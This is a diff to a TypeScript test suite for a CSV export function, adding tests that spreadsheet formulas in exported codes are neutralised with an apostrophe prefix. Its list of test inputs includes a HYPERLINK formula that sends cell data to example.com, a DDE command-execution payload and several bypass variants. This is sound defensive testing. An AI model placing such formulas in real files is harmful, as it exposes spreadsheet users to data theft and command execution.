@@ -66,19 +66,59 @@ describe('filledCsv', () => {
   it('has a byte order mark and CRLF, and quotes where they are needed', () => {
     const text = filledCsv([['a"b', 'c\nd', 'e;f', ' g', 'h', '1', 'i', 'j', 'k']], {
       delimiter: ';',
-      guardTheirs: false,
+      guardValues: false,
     });
     assert.equal(text, '\ufeff"a""b";"c\nd";"e;f";" g";h;1;i;j;k');
-    assert.equal(filledCsv(rows, { delimiter: ',', guardTheirs: false }).split('\r\n').length, 2);
+    assert.equal(filledCsv(rows, { delimiter: ',', guardValues: false }).split('\r\n').length, 2);
   });
 
   it('guards the codes against formulas, and leaves their cells alone', () => {
-    const { data } = Papa.parse<string[]>(filledCsv(rows, { delimiter: '\t', guardTheirs: false }));
+    const { data } = Papa.parse<string[]>(filledCsv(rows, { delimiter: '\t', guardValues: false }));
     assert.deepEqual(data[1]?.slice(0, 4), ['EP-1', '=1+1', "'=2", "'-3"]);
   });
 
   it('guards their cells too where these come from a workbook', () => {
-    const { data } = Papa.parse<string[]>(filledCsv(rows, { delimiter: ',', guardTheirs: true }));
+    const { data } = Papa.parse<string[]>(filledCsv(rows, { delimiter: ',', guardValues: true }));
     assert.deepEqual(data[1]?.slice(0, 4), ['EP-1', "'=1+1", "'=2", "'-3"]);
   });
+});
+
+describe('a code in a CSV file', () => {
+  /** Writes a code, and reads it as a spreadsheet does. */
+  const codeInCsv = (code: string) => {
+    const record = { values: ['EP-1'], code, pairingCodeId: undefined, state: 'done', fetchedAt: undefined };
+    const rows = filledRows({ header: undefined, records: [record], columnCount: 1 });
+    const csv = filledCsv(rows, { delimiter: ',', guardValues: false });
+    return Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data[1]?.[1];
+  };
+
+  const formulas = [
+    '=HYPERLINK("http://example.com?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u00a0=1',
+    '\u200b=1',
+    '\0=1',
+    '＝1',
+    '\ttab',
+    "'=1",
+    "''-1",
+  ];
+  for (const text of formulas) {
+    it(`guards a formula so that it can be restored: ${JSON.stringify(text)}`, () => {
+      assert.equal(codeInCsv(text), `'${text}`);
+    });
+  }
+
+  for (const text of ["'", "'a", 'a=1', 'a-b', '1-2', '', '…=']) {
+    it(`adds no guard where none is needed: ${JSON.stringify(text)}`, () => {
+      assert.equal(codeInCsv(text), text);
+    });
+  }
 });
